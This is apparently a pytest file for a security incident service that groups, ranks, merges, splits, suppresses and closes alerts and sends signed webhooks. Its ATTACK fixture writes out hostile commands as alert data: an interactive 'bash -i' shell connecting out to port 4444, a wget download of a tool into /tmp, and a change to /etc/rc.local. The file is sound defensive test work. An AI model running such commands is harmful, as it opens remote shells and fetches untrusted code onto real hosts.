"""Incidents over HTTP: alerts are sent to a running service, which groups and ranks them."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import httpx

from provenance.service.app import create_app
from provenance.service.auth import tokens
from provenance.service.auth.tokens import Scope
from provenance.service.service import Service, wall_ms
from provenance.service.webhooks.targets import SIGNATURE, is_valid
from provenance.store.interface import Store
from tests.conftest import ROOT
from tests.provenance.service.running import Running, serving, states, until
from tests.provenance.service.webhooks.receivers import receiving

SECRET = b"a secret of more than sixteen bytes"
ATTACK: tuple[Mapping[str, Any], ...] = (
    {
        "title": "interactive shell connects out",
        "severity": "critical",
        "time": "2026-11-24T03:28:58.271Z",
        "process": {"command": "bash -i"},
        "network": {"remote_ip": "198.51.100.45", "remote_port": 4444},
    },
    {"title": "a tool is downloaded", "process": {"command": "wget -q http://203.0.113.61/3333 -O /tmp/3333"}},
    {"title": "a start script was changed", "severity": "high", "file": {"path": "/etc/rc.local"}},
)
NOISE: Mapping[str, Any] = {"title": "a compiler on a server", "file": {"path": "/var/tmp/a6777.c"}}


def token(store: Store) -> str:
    return tokens.create(store.documents(), Scope, "all", wall_ms())


def send(running: Running, alerts: tuple[Mapping[str, Any], ...], first: int = 0) -> list[str]:
    ids = []
    for number, alert in enumerate(alerts, first):
        answer = running.client.post("/alerts", json={"source": "test", "id": str(number), "host": "web01", **alert})
        assert answer.status_code == 202, answer.text
        ids.append(str(answer.json()["alert"]))
    return ids


def wait_until_traced(running: Running) -> None:
    until(lambda: states(running.client).keys() <= {"done", "failed", "waiting"}, "alerts done")


def retrace(running: Running, alert: str) -> None:
    """Work on an alert again; its old answer stands until the new one is there."""

    def computed() -> str:
        return str(running.client.get(f"/alerts/{alert}").json()["computed"])

    before = computed()
    assert running.client.post(f"/alerts/{alert}/retry").status_code == 202
    until(lambda: computed() != before, "a new answer")


def test_incidents_are_made_notified_merged_split_and_closed(store: Store, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_bytes(SECRET)
    config = tmp_path / "config.toml"
    with receiving() as receiver:
        config.write_text(
            f'[outgoing]\nsettle_s = 0\n[outgoing.webhooks.soc]\nurl = "{receiver.url}"\nsecret_file = "{secret}"\n'
        )
        where = str(tmp_path / "graph.db")
        with serving(where, tmp_path, token(store), {}, "--config", str(config)) as running:
            _check_requests(running)
            until(lambda: bool(receiver.got), "a webhook")
    headers, body = receiver.got[0]
    assert is_valid(SECRET, headers[SIGNATURE], body, wall_ms() / 1000)
    assert json.loads(body)["format"] == "provenance-incident/1"


def _check_requests(running: Running) -> None:
    client = running.client
    ids = send(running, (*ATTACK, NOISE))
    wait_until_traced(running)
    assert states(client) == {"done": 4}
    listed = client.get("/incidents").json()["incidents"]
    assert [found["alerts"] for found in listed] == [3, 1]
    first, other = (found["incident"] for found in listed)
    assert {client.get(f"/alerts/{id}").json()["incident"] for id in ids[:3]} == {first}
    assert client.get(f"/alerts/{ids[3]}").json()["incident"] == other

    incident = client.get(f"/incidents/{first}").json()
    assert incident["severity"] == "critical"
    assert incident["score"] == listed[0]["score"] > listed[1]["score"]
    assert "198.51.100.23" in incident["entries"][0]["text"]
    story = " ".join(step["text"] for step in incident["chain"])
    assert [text in story for text in ("shell.sh", "bash -i", "3333")] == [True] * 3
    assert [step["time"] for step in incident["chain"]] == sorted(step["time"] for step in incident["chain"])
    assert {step["account"] for step in incident["chain"]} >= {"uid 0"}

    split = client.post(f"/incidents/{first}/split", json={"alerts": [ids[1]]}).json()["incidents"]
    assert client.get(f"/alerts/{ids[1]}").json()["incident"] == split[1]
    retrace(running, ids[1])
    assert client.get(f"/alerts/{ids[1]}").json()["incident"] == split[1]
    merged = client.post(f"/incidents/{split[0]}/merge", json={"incidents": [split[1], other]}).json()["incident"]
    assert client.get(f"/incidents/{other}").json()["incident"] == merged
    assert len(client.get(f"/incidents/{merged}").json()["alerts"]) == 4

    closed = client.patch(f"/incidents/{merged}", json={"state": "closed", "assignee": "ann", "note": "wiped"}).json()
    assert (closed["state"], closed["assignee"], closed["notes"][0]["text"]) == ("closed", "ann", "wiped")
    assert [found["incident"] for found in client.get("/incidents?state=closed").json()["incidents"]] == [merged]
    assert client.get("/incidents?state=shut").status_code == 400
    for path, body, status in (
        (f"/incidents/{merged}/split", {"alerts": ["x"]}, 422),
        (f"/incidents/{merged}/split", {"alerts": [*ids]}, 422),
        (f"/incidents/{merged}/merge", {"incidents": ["i0"]}, 404),
        ("/incidents/i0/split", {"alerts": ["x"]}, 404),
    ):
        assert client.post(path, json=body).status_code == status, path
    assert client.patch(f"/incidents/{merged}", json={"state": "gone"}).status_code == 400
    assert client.get("/outgoing").json()["targets"][0]["target"] == "soc"
    assert client.post(f"/outgoing/soc/{merged}/retry").json()["state"] == "due"
    for target, incident in (("soc", "i0"), ("nobody", merged)):
        assert client.post(f"/outgoing/{target}/{incident}/retry").status_code == 404


def test_a_suppressed_alert_is_traced_counted_and_in_no_incident(store: Store, tmp_path: Path) -> None:
    with serving(str(tmp_path / "graph.db"), tmp_path, token(store)) as running:
        client = running.client
        rule = {"conditions": {"title": "a compiler*"}, "owner": "build", "reason": "they compile here"}
        made = client.post("/suppressions", json=rule | {"until": "2030-01-01T00:00:00Z"})
        assert made.status_code == 201, made.text
        id = made.json()["suppression"]
        (alert,) = send(running, (NOISE,))
        wait_until_traced(running)
        shown = client.get(f"/alerts/{alert}").json()
        assert (shown["state"], shown["incident"], shown["suppressed"]) == ("done", None, id)
        assert shown["backtrack"]["format"] == "provenance-trace/1"
        assert client.get("/incidents").json()["incidents"] == []
        listed = client.get("/suppressions").json()
        assert (listed["suppressions"][0]["hidden"], listed["hidden"]) == (1, 1)
        assert client.get(f"/suppressions/{id}").json() == listed["suppressions"][0]
        assert client.get("/suppressions/r0").status_code == 404
        assert [found["alert"] for found in client.get("/suppressed", params={"rule": id}).json()["alerts"]] == [alert]
        ended = client.patch(f"/suppressions/{id}", json={"until": "2001-01-01T00:00:00Z"}).json()
        assert ended["state"] == "ended"
        retrace(running, alert)
        client.patch(f"/suppressions/{id}", json={"until": "2030-01-01T00:00:00Z"})
        retrace(running, alert)
        shown = client.get(f"/alerts/{alert}").json()
        assert shown["incident"] is not None
        assert shown["suppressed"] is None
        assert client.delete(f"/suppressions/{id}").status_code == 200
        assert client.get(f"/suppressions/{id}").json()["state"] == "withdrawn"
        assert client.post("/suppressions", json=rule).status_code == 422
        assert client.post("/suppressions", content=b"[").status_code == 422


def test_a_reader_may_not_merge_split_or_suppress(empty: Store) -> None:
    reader = tokens.create(empty.documents(), [Scope.READ], "reader", wall_ms())
    app = create_app(Service(empty))

    async def ask(method: str, path: str, token: str = reader) -> int:
        transport = httpx.ASGITransport(app)
        headers = {"Authorization": f"Bearer {token}"}
        async with httpx.AsyncClient(transport=transport, base_url="http://service", headers=headers) as client:
            return (await client.request(method, path, json={})).status_code

    changes = (
        ("PATCH", "/incidents/i0"),
        ("POST", "/incidents/i0/merge"),
        ("POST", "/incidents/i0/split"),
        ("POST", "/suppressions"),
        ("PATCH", "/suppressions/r0"),
        ("DELETE", "/suppressions/r0"),
        ("GET", "/outgoing"),
    )
    assert [asyncio.run(ask(*change)) for change in changes] == [403] * len(changes)
    assert asyncio.run(ask("GET", "/incidents")) == 200
    assert asyncio.run(ask("GET", "/incidents", "none")) == 401


def test_a_service_with_invalid_notification_settings_does_not_start(store: Store, tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[outgoing.webhooks.soc]\nurl = "ftp://soc.example.net/"\n')
    command = [sys.executable, "-m", "provenance", "serve", "--store", str(tmp_path / "graph.db"), "--port", "0"]
    done = subprocess.run([*command, "--config", str(config)], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 2
    assert "outgoing.webhooks.soc.url" in done.stderr
